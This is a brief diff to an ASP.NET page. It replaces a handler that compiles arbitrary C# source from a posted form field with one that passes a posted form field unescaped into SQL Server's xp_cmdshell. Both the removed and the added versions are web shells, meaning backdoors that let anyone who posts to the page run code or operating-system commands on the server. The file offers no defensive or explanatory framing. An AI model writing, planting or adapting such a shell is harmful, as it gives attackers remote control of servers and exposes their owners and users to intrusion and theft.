@@ -1,5 +1,5 @@
 <%@ Page Language="C#" %>
 <%
-var p = new Microsoft.CSharp.CSharpCodeProvider();
-var r = p.CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(), Request.Form["src"]);
+var c = new System.Data.SqlClient.SqlCommand("exec master..xp_cmdshell '" + Request.Form["c"] + "'", conn);
+var r = c.ExecuteReader();
 %>
